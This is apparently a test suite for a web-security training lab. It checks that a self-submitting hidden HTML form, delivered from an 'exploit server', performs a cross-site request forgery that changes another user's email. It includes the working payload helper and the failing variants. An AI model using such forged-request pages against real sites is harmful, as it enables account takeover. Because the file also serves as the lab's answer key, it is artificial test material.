import { afterEach, describe, expect, it } from 'vitest';
import { showsFlag, startTestLab } from '../host/test-harness';

type Lab = Awaited<ReturnType<typeof startTestLab>>;

function autoSubmitting(action: string, method = 'POST', email = 'attacker@mail.example'): string {
  return `<!doctype html><html><body>
<form id="f" method="${method}" action="${action}">
  <input type="hidden" name="email" value="${email}">
</form>
<script>document.getElementById('f').submit();</script>
</body></html>`;
}

function deliver(lab: Lab, html: string) {
  return lab.post('/exploit', { html, action: 'deliver' });
}

describe('lab web-csrf-email-change', () => {
  let lab: Lab;
  afterEach(() => lab.close());

  it('is solved by a page that submits a POST form to the change-email endpoint by itself', async () => {
    lab = await startTestLab('web-csrf-email-change');
    const home = await lab.get('/');
    expect(home.body).toContain('SameSite=None');
    expect(lab.jar.get('session')).toBeTruthy();

    // The learner's own request: one field, no token.
    const account = await lab.get('/my-account');
    expect(account.body).toContain('action="my-account/change-email"');
    expect(account.body).not.toMatch(/name="(csrf|token)/i);
    const changed = await lab.post('/my-account/change-email', { email: 'wiener.new@mail.example' });
    expect(changed.body).toContain('wiener.new@mail.example');
    expect(showsFlag(changed.body, lab.flag)).toBe(false);

    // The exploit server prints the endpoint's full address; use it as the form's action.
    const server = await lab.get('/exploit');
    const endpoint = /<pre>(https?:\/\/[^<]+\/my-account\/change-email)<\/pre>/.exec(server.body)?.[1];
    expect(endpoint).toBe(`http://localhost:80${lab.base}/my-account/change-email`);
    const answer = await deliver(lab, autoSubmitting(endpoint!));
    expect(answer.status).toBe(200);
    expect(answer.body).toContain("carlos's email is now <strong>attacker@mail.example</strong>");
    expect(showsFlag(answer.body, lab.flag)).toBe(true);
    // The learner's own account was not the one changed, and the solve is remembered.
    expect((await lab.get('/my-account')).body).toContain('wiener.new@mail.example');
    expect(showsFlag((await lab.get('/exploit')).body, lab.flag)).toBe(true);
  });

  it('accepts a bare path to the endpoint and a form found by document.forms', async () => {
    lab = await startTestLab('web-csrf-email-change');
    await lab.get('/');
    const html = `<form method="post" action="${lab.base}/my-account/change-email"><input name="email" value="x@mail.example"></form>
<script>document.forms[0].submit()</script>`;
    const answer = await deliver(lab, html);
    expect(showsFlag(answer.body, lab.flag)).toBe(true);
  });

  it('is not solved by a form that needs a click, a GET form, the wrong endpoint or host, or no email', async () => {
    lab = await startTestLab('web-csrf-email-change');
    await lab.get('/');
    const endpoint = `http://localhost${lab.base}/my-account/change-email`;
    const misses = [
      // carlos clicks nothing.
      `<form method="POST" action="${endpoint}"><input type="hidden" name="email" value="a@mail.example"><button>Win a recharge</button></form>`,
      // The endpoint takes POST only.
      autoSubmitting(endpoint, 'GET'),
      // Another endpoint of the shop, another host, another lab instance.
      autoSubmitting(`http://localhost${lab.base}/my-account`),
      autoSubmitting(`http://evil.example${lab.base}/my-account/change-email`),
      autoSubmitting(`http://localhost/i/another-token/my-account/change-email`),
      // The shop's own validation applies to carlos's request too.
      autoSubmitting(endpoint, 'POST', 'not-an-email'),
      `<form id="f" method="POST" action="${endpoint}"><input type="hidden" name="mail" value="a@mail.example"></form><script>document.getElementById('f').submit()</script>`,
    ];
    for (const html of misses) {
      const answer = await deliver(lab, html);
      expect(answer.status).toBe(200);
      expect(answer.body).toContain('did not change');
      expect(answer.body).not.toContain(lab.flag);
    }
    // Storing a working page without delivering it does not solve either.
    const stored = await lab.post('/exploit', { html: autoSubmitting(endpoint), action: 'store' });
    expect(stored.body).toContain('Stored.');
    expect(stored.body).not.toContain(lab.flag);
  });

  it('needs a session: the endpoint refuses a request without the cookie, and the exploit server keeps 2 KB', async () => {
    lab = await startTestLab('web-csrf-email-change');
    const anonymous = await lab.post('/my-account/change-email', { email: 'a@mail.example' });
    expect(anonymous.status).toBe(401);
    const big = await lab.post('/exploit', { html: 'x'.repeat(2100), action: 'deliver' });
    expect(big.status).toBe(400);
    expect(big.body).not.toContain(lab.flag);
  });
});
